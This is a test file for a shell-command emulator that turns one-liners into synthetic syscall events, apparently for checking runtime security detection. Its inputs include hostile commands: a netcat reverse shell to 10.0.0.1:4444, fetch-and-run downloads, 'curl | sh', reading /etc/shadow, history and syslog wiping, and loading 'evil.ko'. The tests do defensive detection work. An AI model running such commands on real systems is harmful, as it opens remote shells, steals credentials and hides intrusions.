// Event synthesis: what a shell command becomes, checked field by field on hand-written one-liners
// (each test names the construct it proves: builtins, redirections, pipelines, subshells, wrappers,
// nested shells, heredocs, substitutions, network tools, dropped binaries, contexts).
import { beforeAll, describe, expect, it } from 'vitest';
import type { ContextName, Emulation, SyntheticEvent } from '../../../src/emulate/event.js';
import type { ShellParser } from '../../../src/emulate/shell-ast.js';
import { loadShellParser } from '../../../src/emulate/shell-parse.js';
import { synthesize } from '../../../src/emulate/synthesize.js';
import { readEmulationTables } from '../../../src/emulate/tables.js';

let parse: ShellParser;
beforeAll(async () => {
  parse = await loadShellParser();
});

const emulate = (script: string, context: ContextName = 'host', executor = 'sh'): Emulation => synthesize(script, executor, readEmulationTables(), context, parse);
const of = (e: Emulation, type: string): SyntheticEvent[] => e.events.filter((x) => x.fields['evt.type'] === type);
const execs = (e: Emulation): string[] => of(e, 'execve').map((x) => String(x.fields['proc.cmdline']));
const field = (x: SyntheticEvent | undefined, name: string): unknown => x?.fields[name];

describe('processes', () => {
  it('runs the script under the executor: sh -c, child of the login shell, one execve per external command', () => {
    const e = emulate('rm ~/.bash_history');
    expect(execs(e)).toEqual(['sh -c rm ~/.bash_history', 'rm /root/.bash_history']);
    const rm = of(e, 'execve')[1]!;
    expect([field(rm, 'proc.name'), field(rm, 'proc.exe'), field(rm, 'proc.exepath'), field(rm, 'proc.args')]).toEqual(['rm', 'rm', '/usr/bin/rm', '/root/.bash_history']);
    expect([field(rm, 'proc.pname'), rm.ancestors.map((a) => a.name)]).toEqual(['sh', ['sh', 'bash', 'sshd', 'systemd']]);
    expect([field(rm, 'user.uid'), field(rm, 'user.name'), field(rm, 'proc.tty'), field(rm, 'evt.dir')]).toEqual([0, 'root', 34816, '<']);
    expect(of(e, 'unlinkat').map((x) => x.fields['evt.arg.name'])).toEqual(['/root/.bash_history']);
  });

  it('builtins make no execve; their redirections are opened by the shell itself', () => {
    const e = emulate('echo "" > ~/.bash_history');
    expect(execs(e)).toEqual(['sh -c echo "" > ~/.bash_history']);
    const open = of(e, 'openat')[0]!;
    expect([field(open, 'proc.name'), field(open, 'fd.name'), field(open, 'evt.arg.flags'), field(open, 'fd.typechar'), field(open, 'evt.is_open_write')]).toEqual(['sh', '/root/.bash_history', 'O_WRONLY|O_CREAT|O_TRUNC', 'f', true]);
  });

  it("an external command's redirection is opened by the forked shell before the execve", () => {
    const e = emulate('cat /dev/null > /tmp/out >> /tmp/log');
    const types = e.events.map((x) => `${x.fields['evt.type']}:${x.fields['proc.name']}`);
    expect(types).toEqual(['execve:sh', 'openat:sh', 'openat:sh', 'execve:cat', 'openat:cat']);
    expect(of(e, 'openat').map((x) => `${x.fields['fd.name']} ${x.fields['evt.arg.flags']} ${x.fields['fd.typechar']}`)).toEqual([
      '/tmp/out O_WRONLY|O_CREAT|O_TRUNC f',
      '/tmp/log O_WRONLY|O_CREAT|O_APPEND f',
      '/dev/null O_RDONLY c',
    ]);
  });

  it('pipelines, && and subshells: a forked shell for ( ), cd changes the working directory inside it only', () => {
    const e = emulate('(cd /tmp && ls) | grep x; pwd');
    const ls = of(e, 'execve').find((x) => x.fields['proc.name'] === 'ls')!;
    const grep = of(e, 'execve').find((x) => x.fields['proc.name'] === 'grep')!;
    expect([field(ls, 'proc.cwd'), field(ls, 'proc.pname'), ls.ancestors[0]!.pid === grep.ancestors[0]!.pid]).toEqual(['/tmp/', 'sh', false]);
    expect(field(grep, 'proc.cwd')).toBe('/root/');
  });

  it('sudo execs the command it wraps (with a setuid), and proc.aname walks up the tree', () => {
    const e = emulate('sudo shutdown -h now');
    expect(execs(e).slice(1)).toEqual(['sudo shutdown -h now', 'shutdown -h now']);
    const shutdown = of(e, 'execve')[2]!;
    expect([field(shutdown, 'proc.pname'), shutdown.ancestors[1]!.name, field(shutdown, 'proc.exepath')]).toEqual(['sudo', 'sh', '/usr/sbin/shutdown']);
    expect(of(e, 'setuid')).toHaveLength(1);
  });

  it('nested shells: bash -c runs its script; a heredoc or echo | base64 -d piped into a shell runs too', () => {
    expect(execs(emulate("bash -c 'id; whoami'")).slice(1)).toEqual(["bash -c id; whoami", 'id', 'whoami']);
    expect(execs(emulate('cat <<EOF | bash\nuname -a\nEOF')).slice(1)).toEqual(['cat', 'bash', 'uname -a']);
    expect(execs(emulate('echo d2hvYW1p | base64 -d | sh')).slice(1)).toEqual(['base64 -d', 'sh', 'whoami']);
  });

  it('$(…) runs its commands; variables and loops expand', () => {
    expect(execs(emulate('echo $(whoami)')).slice(1)).toEqual(['whoami']);
    const e = emulate('F=/etc/shadow; for d in a b; do touch /tmp/$d; done; cat $F');
    expect(of(e, 'openat').map((x) => x.fields['fd.name'])).toEqual(['/tmp/a', '/tmp/b', '/etc/shadow']);
  });

  it('a binary written by the procedure and then run is an executable that was written (and, in a container, in the upper layer)', () => {
    const e = emulate('curl -o /tmp/x http://10.0.0.9/x; chmod +x /tmp/x; /tmp/x', 'container');
    const x = of(e, 'execve').find((v) => v.fields['proc.exepath'] === '/tmp/x')!;
    expect([field(x, 'proc.is_exe_writable'), field(x, 'proc.is_exe_upper_layer'), field(x, 'evt.arg.flags')]).toEqual([true, true, 'EXE_WRITABLE|EXE_UPPER_LAYER']);
    expect(of(e, 'fchmodat').map((v) => v.fields['evt.arg.filename'])).toEqual(['/tmp/x']);
  });
});

describe('files, network and other syscalls from the tables', () => {
  it('mv renames, ln -s makes a symlink, mkdir and truncate (no O_TRUNC: GNU truncate opens without it, then ftruncate)', () => {
    const e = emulate('mv a.txt /tmp/b.txt; ln -sf /dev/null ~/.bash_history; mkdir -p /opt/x; truncate -s0 /var/log/syslog');
    expect(of(e, 'renameat2').map((x) => [x.fields['evt.arg.oldpath'], x.fields['evt.arg.newpath']])).toEqual([['/root/a.txt', '/tmp/b.txt']]);
    expect(of(e, 'symlinkat').map((x) => [x.fields['evt.arg.target'], x.fields['evt.arg.linkpath']])).toEqual([['/dev/null', '/root/.bash_history']]);
    expect(of(e, 'mkdirat').map((x) => x.fields['evt.arg.path'])).toEqual(['/opt/x']);
    expect(of(e, 'openat').find((x) => x.fields['fd.name'] === '/var/log/syslog')!.fields['evt.arg.flags']).toBe('O_WRONLY|O_CREAT|O_NONBLOCK');
    expect(of(e, 'ftruncate')).toHaveLength(1);
  });

  it('connect with the address and port a tool names; a host name leaves the server IP unknown', () => {
    const ip = of(emulate('curl -s http://1.2.3.4:8080/x'), 'connect')[0]!;
    expect([field(ip, 'fd.sip'), field(ip, 'fd.sport'), field(ip, 'fd.typechar'), field(ip, 'fd.l4proto'), field(ip, 'fd.name')]).toEqual(['1.2.3.4', 8080, '4', 'tcp', '172.17.0.2:40000->1.2.3.4:8080']);
    const named = of(emulate('wget https://example.com/a.sh'), 'connect')[0]!;
    expect([field(named, 'fd.sip'), field(named, 'fd.sip.name'), field(named, 'fd.sport')]).toEqual([undefined, 'example.com', 443]);
    expect(field(of(emulate('nc -e /bin/sh 10.0.0.1 4444'), 'connect')[0], 'fd.sport')).toBe(4444);
  });

  it('mount, kernel modules, ptrace', () => {
    const e = emulate('mount -t proc proc /mnt; insmod evil.ko; strace -p 1');
    expect(e.events.map((x) => x.fields['evt.type']).filter((t) => !['execve', 'openat'].includes(String(t)))).toEqual(['mount', 'init_module', 'ptrace']);
    expect(field(of(e, 'mount')[0], 'evt.arg.dir')).toBe('/mnt');
  });
});

describe('contexts and what is not modeled', () => {
  it('runs on the host (container.id = host) and in a container (another id, no login uid)', () => {
    const host = of(emulate('id'), 'execve')[1]!;
    const container = of(emulate('id', 'container'), 'execve')[1]!;
    expect([field(host, 'container.id'), field(container, 'container.id') !== 'host', field(container, 'user.loginuid')]).toEqual(['host', true, -1]);
    expect(host.absent).toContain('k8s.');
    expect(container.absent).not.toContain('k8s.');
  });

  it('lists what it could not emulate', () => {
    const e = emulate("python3 -c 'import os'; ls /tmp/*.log | xargs rm; echo $((1+2)); curl http://x | sh; false || echo no");
    expect(e.unmodeled.join('\n')).toMatch(/python3 -c: the interpreter's own code is not emulated/);
    expect(e.unmodeled.join('\n')).toMatch(/glob not expanded .*\/tmp\/\*\.log/);
    expect(e.unmodeled.join('\n')).toMatch(/xargs: the commands it runs/);
    expect(e.unmodeled.join('\n')).toMatch(/arithmetic expansion not expanded/);
    expect(e.unmodeled.join('\n')).toMatch(/sh reads commands from standard input, which is not known/);
    expect(e.unmodeled.join('\n')).toMatch(/a \|\| b: both sides emulated/);
  });
});
